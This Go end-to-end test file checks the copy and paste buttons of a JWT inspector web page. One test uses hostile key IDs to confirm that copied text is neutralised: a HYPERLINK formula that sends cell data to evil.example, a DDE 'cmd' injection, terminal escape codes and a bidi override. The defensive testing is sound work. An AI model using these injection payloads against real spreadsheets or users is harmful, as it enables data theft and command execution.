package e2e

import (
	"encoding/base64"
	"encoding/json"
	"fmt"
	"strings"
	"testing"

	"github.com/chromedp/cdproto/browser"
	"github.com/chromedp/chromedp"
)

// TestPageCopy copies both with and without the clipboard of a secure context.
func TestPageCopy(t *testing.T) {
	t.Parallel()
	token := read(t, "cluster/article-bound.jwt")
	payload, err := base64.RawURLEncoding.DecodeString(strings.Split(token, ".")[1])
	if err != nil {
		t.Fatal(err)
	}
	for host, modern := range map[string]bool{"127.0.0.1": true, otherHost: false} {
		t.Run(host, func(t *testing.T) {
			t.Parallel()
			a := openAt(t, serveDist(t).at(host, "/index.html"))
			if got := eval[bool](a.tab, `navigator.clipboard !== undefined`); got != modern {
				t.Fatalf("navigator.clipboard is there: %t, want %t", got, modern)
			}
			a.reach("#keys")
			a.copies("#keys-hint button", "kubectl get --raw /openid/v1/jwks")
			a.paste("#token", token)
			a.part("signature")
			a.copies("#signature button", strings.Split(token, ".")[2])
			a.part("payload")
			a.element(`#payload button[value="text"]`).click()
			a.wait("the payload as it stands", `document.querySelector("#payload pre") !== null`)
			a.element("#payload .indent").click()
			a.wait("the payload exactly", `!document.querySelector("#payload pre").textContent.includes("\n")`)
			a.copies("#payload .copy", string(payload))
			if focused := eval[bool](a.tab, `document.activeElement.matches("#payload .copy")`); !focused {
				t.Error("copying takes the focus away")
			}
		})
	}
}

// TestPageCopyHarmless copies text that is meant to act where it is pasted. It must
// be copied as shown, and spreadsheets must not treat it as a formula, unless the
// button says that it is exact.
func TestPageCopyHarmless(t *testing.T) {
	t.Parallel()
	a := open(t)
	for _, row := range []struct{ kid, copied string }{
		{`=HYPERLINK("http://evil.example/?"&A1,"x")`, `'=HYPERLINK("http://evil.example/?"&A1,"x")`},
		{`+cmd|' /C calc'!A0`, `'+cmd|' /C calc'!A0`},
		{`-2+3`, `'-2+3`},
		{`@SUM(1)`, `'@SUM(1)`},
		{` =1+1`, `' =1+1`},
		{"\t=1+1\r=2", `‹U+0009›=1+1‹U+000D›=2`},
		{"a\n=1+1", `a‹U+000A›=1+1`},
		{"\x1b]0;x\x07\x1b[2J", `‹U+001B›]0;x‹U+0007›‹U+001B›[2J`},
		{"\u202enimda\u200b", `‹U+202E›nimda‹U+200B›`},
		{`-Rj9_2hI3pvt`, `-Rj9_2hI3pvt`}, // a thumbprint can start like this
		{`plain, and "quoted"`, `plain, and "quoted"`},
	} {
		t.Run(row.copied, func(t *testing.T) {
			a := airlock{a.in(t)}
			key := must[[]byte](t)(json.Marshal(map[string]string{"kty": "oct", "k": "c2VjcmV0", "kid": row.kid}))
			a.set("#keys", js(`%s`, string(key)))
			a.look("members")
			a.copies("#keys-notes .key dl button", row.copied)
		})
	}
	exact := "=1+1\n\u202e\x1b[2J"
	a.set("#token", js(`%s`, segments(`{"alg":"HS256"}`, exact, "signature")))
	a.look("text")
	a.copies("#payload .copy", exact)
	a.wait("the button to speak of itself again", `document.querySelector("#payload .copy").innerText === "Copy"`)
	if name := eval[string](a.tab, `document.querySelector("#payload .copy").ariaLabel`); !strings.HasPrefix(name, "Copy exact text") {
		t.Errorf("the button is named %q", name)
	}
}

// TestPageCopyClaims copies the value of every claim: a string without its quotes.
func TestPageCopyClaims(t *testing.T) {
	t.Parallel()
	a := open(t)
	payload := `{"sub":"a\u00e9\"b","n":1.50,"list":["x", 1],"small":{"name":"app","uid":"u-1"},"f":"=1+1"}`
	a.set("#token", js(`%s`, segments(`{"alg":"HS256"}`, payload, "signature")))
	for row, want := range []string{`aé"b`, `1.50`, `["x", 1]`, `{"name":"app","uid":"u-1"}`, `'=1+1`} {
		a.copies(fmt.Sprintf("#payload tbody tr:nth-child(%d) .copy", row+1), want)
	}
}

// TestPageCopyShown copies the JSON as shown: indented at first, or exactly.
func TestPageCopyShown(t *testing.T) {
	t.Parallel()
	a := open(t)
	a.set("#token", js(`%s`, segments(`{"alg":"HS256"}`, `{"b":1.0,"a":[1,{}]}`, "signature")))
	a.copies("#payload .whole", `{"b":1.0,"a":[1,{}]}`)
	a.element(`#payload .tabs [value="text"]`).click()
	for _, want := range []string{"{\n  \"b\": 1.0,\n  \"a\": [\n    1,\n    {}\n  ]\n}", `{"b":1.0,"a":[1,{}]}`} {
		a.wait("the JSON to be shown so", js(`document.querySelector("#payload pre").textContent === %s`, want))
		a.copies("#payload .whole", want)
		a.element("#payload .indent").click()
	}
	a.set("#token", js(`%s`, segments(`{"alg":"HS256"}`, `[1]`, "signature")))
	a.copies("#payload .whole", "[\n  1\n]") // anything but an object is shown as JSON at once
}

// part shows a part of the token.
func (a airlock) part(id string) {
	a.t.Helper()
	a.element("#tab-" + id).click()
	a.wait("the "+id, js(`document.querySelector(%s).checkVisibility()`, "#"+id))
}

// copies presses a button and fails the test unless the clipboard then contains the
// text.
func (a airlock) copies(button, text string) {
	a.t.Helper()
	if got := a.copied(button); got != text {
		a.t.Errorf("%s copied %q, want %q", button, clip(got), clip(text))
	}
}

// copied presses a button and returns what it copied. The button may still show its last
// success: it has to show it again.
func (a airlock) copied(button string) string {
	a.t.Helper()
	lab.clipboard.Lock()
	defer lab.clipboard.Unlock()
	const before = "nothing was copied"
	a.do(lab.clipboard.put(before))
	b := a.element(button)
	call[chromedp.Void](b, `function() {
		self.copying = new Promise(done => new MutationObserver((_, observer) => {
			if (this.dataset.copied === undefined) return;
			observer.disconnect();
			done(this.innerText);
		}).observe(this, {attributes: true, attributeFilter: ["data-copied"]}));
	}`)
	b.click()
	if said := eval[string](a.tab, `copying`); !strings.Contains(said, "Copied") {
		a.t.Errorf("%s says %q", button, said)
	}
	got, err := lab.clipboard.get(func(got string) bool { return got != before })
	a.do(err)
	return got
}

// TestInputPasteButton pastes with a button if the browser lets a page read the
// clipboard. Otherwise the page must say what to do.
func TestInputPasteButton(t *testing.T) {
	t.Parallel()
	t.Run("allowed", func(t *testing.T) {
		t.Parallel()
		s := serveDist(t)
		a := openAt(t, s.at("127.0.0.1", "/index.html"))
		_, err := chromedp.CallBrowser(a.ctx, browser.SetPermission, browser.SetPermissionParams{
			Permission:       &browser.PermissionDescriptor{Name: "clipboard-read"},
			Setting:          browser.PermissionSettingGranted,
			BrowserContextID: chromedp.FromContext(a.ctx).BrowserContextID,
		})
		a.do(err)
		lab.clipboard.Lock()
		defer lab.clipboard.Unlock()
		a.do(lab.clipboard.put(read(t, "cluster/article-legacy.jwt")))
		a.after(func() { a.element("#token-paste").click() })
		a.expect(verdict{Form: "jws-compact", Signature: "no-key"})
	})
	t.Run("not there", func(t *testing.T) {
		t.Parallel()
		a := openAt(t, serveDist(t).at(otherHost, "/index.html"))
		a.element("#token-paste").click()
		a.wait("the box to have the focus", `document.activeElement === document.querySelector("#token")`)
		if said := a.element("#token-card").text(); !strings.Contains(said, "Ctrl+V") {
			t.Errorf("the page does not say what to do: %s", said)
		}
	})
}
